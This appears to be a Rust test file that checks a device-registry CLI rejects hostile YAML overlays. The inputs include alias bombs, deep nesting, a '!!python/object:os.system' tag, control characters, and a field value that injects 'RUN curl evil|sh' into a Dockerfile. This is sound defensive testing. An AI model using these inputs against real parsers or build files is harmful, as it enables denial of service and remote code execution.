//! Registry overlays from strangers: each gets what the catalogue of bad inputs says. The numbers
//! are that catalogue's.

mod common;

use common::Test;

fn overlay(content: impl AsRef<[u8]>) -> Test {
    Test::new().file("o.yaml", content).args("devices --format slugs --registry o.yaml")
}

/// One device type with these fields in a map.
fn device(fields: &str) -> Test {
    overlay(format!("device_types:\n  mine: {{{fields}}}\n"))
}

#[test]
fn y01_alias_bombs() {
    for levels in [8, 9, 11] {
        let mut bomb = String::from("a0: &a0 [x,x,x,x,x,x,x,x,x]\n");
        for level in 1..levels {
            let before = format!("*a{},", level - 1).repeat(9);
            bomb.push_str(&format!("a{level}: &a{level} [{}]\n", before.trim_end_matches(',')));
        }
        let run = overlay(bomb).shell("ulimit -v 200000;").refuses(["o.yaml:", "error: too much YAML"]);
        assert!(run.stderr.len() < 4096, "{}", run.stderr.len());
    }
}

#[test]
fn y02_y03_deep_nesting() {
    overlay("[".repeat(200_000)).refuses(["o.yaml:1:", "error: "]);
    overlay(format!("device_types: {}", "{a: ".repeat(5_000))).refuses(["o.yaml:1:", "error: "]);
    let block: String = (0..3_000).map(|level| format!("{}a:\n", " ".repeat(level))).collect();
    overlay(block).refuses(["o.yaml:", "error: "]);
    // A small stack is enough, when the program is optimised.
    let stack = if cfg!(debug_assertions) { "" } else { "ulimit -s 128;" };
    overlay("[".repeat(200_000)).shell(stack).refuses(["o.yaml:1:", "error: "]);
    overlay(format!("{}1{}", "[".repeat(15), "]".repeat(15))).shell(stack).refuses(["o.yaml:1:1: error: "]);
}

#[test]
fn y04_y05_equal_keys() {
    device("arch: amd64, arch: aarch64")
        .refuses(["o.yaml:2:23: error: `arch` is given twice; the first is in line 2"]);
    overlay("device_types:\n  mine:\n    arch: amd64\n  mine:\n    arch: aarch64\n")
        .refuses(["o.yaml:4:3: error: `mine` is given twice; the first is in line 2"]);
}

#[test]
fn y06_y08_y10_wrong_values() {
    device("arch: [amd64]").refuses(["o.yaml:2:16: error: arch has to be text, this is a list"]);
    device("arch: ~").refuses(["o.yaml:2:16: error: arch has to be text, this is nothing"]);
    device("arch: amd64, aliases: x")
        .refuses(["o.yaml:2:32: error: aliases has to be a list, this is a value"]);
    device("arch: amd64, override: 1").refuses(["error: override has to be true or false"]);
    device("arch: amd64, status: gone").refuses([
        "error: status cannot be `gone`",
        "active, contract-only, repository-only, removed, image-only",
    ]);
    device("arch: amd64, state: relesed").refuses(["error: state cannot be `relesed`", "`released`"]);
    device("arch: amd64, base_images: [balenlib]").refuses(["did you mean `balenalib`?"]);
    device("arch: .inf").refuses(["2:16: error: unknown arch `.inf`"]);
    device("arch: 11111111111111111111111111111111111111111")
        .refuses(["unknown arch `11111111111111111111111111111111111111111`"]);
    for bad in ["\\0", "\\x07", "\\x7f", "\\u0085", "\\u202e"] {
        device(&format!("arch: amd64, name: \"a{bad}b\""))
            .refuses(["o.yaml:2:29: error: a control character"]);
    }
    overlay("device_types:\n  mine: {arch: amd64, name: a\u{202e}b}\n")
        .refuses(["o.yaml:2:30: error: a control character"]);
    overlay("arches:\n  mine: {platform: arm}\n")
        .refuses(["o.yaml:2:20: error: `arm` is not a platform", "linux/arm/v7"]);
    for slug in ["a/b", "\"\"", "..", "-rf", "a b", "\u{e9}"] {
        overlay(format!("device_types:\n  {slug}: {{arch: amd64}}\n"))
            .refuses(["o.yaml:2:", "cannot be called"]);
    }
}

#[test]
fn y07_unknown_fields_are_all_reported() {
    let run = overlay(
        "device_type:\n  x: 1\ndevice_types:\n  mine: {arhc: amd64}\n  yours: {arch: amd64, nmae: x}\n",
    )
    .refuses([
        "o.yaml:1:1: error: a registry has no field `device_type`",
        "did you mean `device_types`?",
        "o.yaml:4:10: error: a device type has no field `arhc`",
        "did you mean `arch`?",
        "o.yaml:5:24: error: a device type has no field `nmae`",
        "did you mean `name`?",
    ]);
    assert_eq!(run.stderr.matches("error:").count(), 3);
}

#[test]
fn y09_y11_y12_y13_y14_y16_not_our_yaml() {
    overlay(b"device_types:\n  caf\xe9: {}\n").refuses(["o.yaml:2:6: error: not valid UTF-8"]);
    overlay("device_types:\n\tmine: {arch: amd64}\n").refuses(["o.yaml:2:", "tab"]);
    overlay("device_types: {}\n---\ndevice_types: {}\n")
        .refuses(["o.yaml:", "error: a second YAML document"]);
    overlay("device_types: !!python/object:os.system x\n").refuses(["o.yaml:1:", "error: "]);
    device("arch: !mine amd64").refuses(["o.yaml:2:", "error: "]);
    overlay("device_types:\n  mine: &a {arch: amd64}\n  yours: {<<: *a}\n")
        .refuses(["o.yaml:3:", "error: merge keys"]);
    overlay("device_types: *nowhere\n").refuses(["o.yaml:1:", "error: "]);
    overlay("device_types: &a [*a]\n").refuses(["o.yaml:1:", "error: "]);
    overlay("device_types: {\n").refuses(["o.yaml:", "error: "]);
}

#[test]
fn y15_nothing_in_it() {
    for content in ["", "# only\n", "arches: {}\n", "device_types:\n"] {
        overlay(content).refuses(["o.yaml:", "error: the registry has no device types"]);
    }
    overlay("x\n").refuses(["o.yaml:1:1: error: a registry has to be a map, this is a value"]);
    overlay("[a]\n").refuses(["o.yaml:1:1: error: a registry has to be a map, this is a list"]);
}

#[test]
fn y17_too_much() {
    let keys: String = (0..200_000).map(|key| format!("  k{key}: {{}}\n")).collect();
    let overlay = |content: String| overlay(content).args("--max-config-bytes 8M");
    overlay(format!("device_types:\n{keys}")).refuses(["o.yaml:", "error: too much YAML"]);
    overlay(format!("device_types: [{}]", "x,".repeat(1_000_000))).refuses(["error: too much YAML"]);
    overlay(format!("x: {}", "y".repeat(9 << 20)))
        .refuses(["o.yaml: error: longer than the limit", "--max-config-bytes"]);
    let test = Test::new().arg("devices");
    (0..300).fold(test, |test, _| test.args("--registry o.yaml")).refuses(["more than 256 overlays"]);
}

#[test]
fn y23_y24_what_does_not_fit_the_registry() {
    overlay("device_types:\n  raspberrypi3: {arch: aarch64}\n").refuses([
        "o.yaml:2:24: error: device type `raspberrypi3` has arch `armv7hf`, but this entry changes it to `aarch64`",
        "override: true",
    ]);
    Test::new()
        .file("o.yaml", "device_types:\n  raspberrypi3: {arch: aarch64, override: true}\n")
        .args("render -d raspberrypi3 --registry o.yaml -")
        .stdin("%%BALENA_ARCH%%")
        .stdout("aarch64");
    device("arch: amd46").refuses(["o.yaml:2:16: error: unknown arch `amd46`", "did you mean `amd64`?"]);
    device("name: x").refuses(["o.yaml:2:3: error: the new device type `mine` has no arch"]);
    overlay("arches:\n  mine: {name: x}\n")
        .refuses(["o.yaml:2:3: error: the new arch `mine` has no platform"]);
    overlay("device_types:\n  amd64: {arch: amd64}\n")
        .refuses(["o.yaml:2:3: error: `amd64` is also an arch", "Dockerfile.amd64"]);
    overlay("arches:\n  mine: {platform: linux/x}\ndevice_types:\n  mine: {arch: mine}\n")
        .refuses(["o.yaml:4:3: error: `mine` is also an arch"]);
    overlay("device_types:\n  nuc: {arch: amd64}\n")
        .refuses(["o.yaml:2:3: error: the name `nuc` is already used by device type `intel-nuc`"]);
    device("arch: amd64, aliases: [raspberrypi3]")
        .refuses(["o.yaml:2:33: error: the name `raspberrypi3` is already used"]);
    overlay("device_types:\n  aa: {arch: amd64, aliases: [cc]}\n  bb: {arch: amd64, aliases: [cc]}\n")
        .refuses(["o.yaml:3:31: error: the name `cc` is already used by device type `aa`"]);
}

#[test]
fn names_stay_within_one_line() {
    for field in ["name", "debian", "node", "rust"] {
        overlay(format!("arches:\n  foo: {{platform: linux/foo, {field}: \"x\\nRUN curl evil|sh\"}}\n"))
            .refuses(["o.yaml:2:", &format!("error: {field} has to stay within one line")]);
    }
    device("arch: amd64, name: \"a\\tb\"").refuses(["name has to stay within one line"]);
}

#[test]
fn an_arch_takes_no_device_types_name() {
    overlay("arches:\n  raspberrypi3: {platform: linux/foo}\n").refuses([
        "o.yaml:2:3: error: the name `raspberrypi3` is already used by device type `raspberrypi3`",
    ]);
    overlay("arches:\n  nuc: {platform: linux/foo}\n")
        .refuses(["the name `nuc` is already used by device type `intel-nuc`"]);
    overlay("arches:\n  mine: {platform: linux/foo, aliases: [own, nuc, mine]}\n")
        .refuses(["o.yaml:2:46: error: the name `nuc` is already used by device type `intel-nuc`"]);
    overlay("arches:\n  mine: {platform: linux/foo, aliases: [amd64]}\n")
        .refuses(["o.yaml:2:41: error: `amd64` is the slug of another arch"]);
}

#[test]
fn what_names_a_dockerfile_already_is_no_device_type() {
    for name in ["template", "tera"] {
        let says = format!("error: `{name}` cannot be a device type");
        overlay(format!("device_types:\n  {name}: {{arch: amd64}}\n")).refuses([&*format!("2:3: {says}")]);
        Test::new().stdin("").args("render - -A amd64 --device").arg(name).refuses([&*says]);
    }
    Test::new()
        .args("render - -A aarch64 --device amd64")
        .refuses(["error: `amd64` cannot be a device type", "`Dockerfile.amd64` would be ambiguous"]);
}

#[test]
fn many_entries_are_no_burden() {
    // Twelve thousand squared would be a hundred million comparisons of names, several times over.
    let entries: String =
        (0..12_000).map(|n| format!("  d{n}: {{arch: amd64, aliases: [e{n}]}}\n")).collect();
    overlay(format!("device_types:\n{entries}")).args("--max-config-bytes 8M").ok();
}

#[test]
fn an_overlay_that_fits() {
    let run = Test::new()
        .file("o.yaml", "device_types:\n  mine: {name: My board, arch: aarch64, aliases: [the-board], status: removed, base_images: [balenalib]}\n")
        .file("p.yaml", "\u{FEFF}# more\ndevice_types:\n  mine: {name: 1.10}\n")
        .args("devices --registry o.yaml --registry p.yaml the-board --format json")
        .ok();
    let got: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
    assert_eq!(
        got,
        serde_json::json!([{
            "slug": "mine", "name": "1.10", "arch": "aarch64", "platform": "linux/arm64/v8",
            "aliases": ["the-board"], "status": "removed", "state": null, "base_images": ["balenalib"],
        }])
    );
    Test::new().args("devices --registry none.yaml").cannot(["none.yaml: error: cannot read: No such file"]);
}
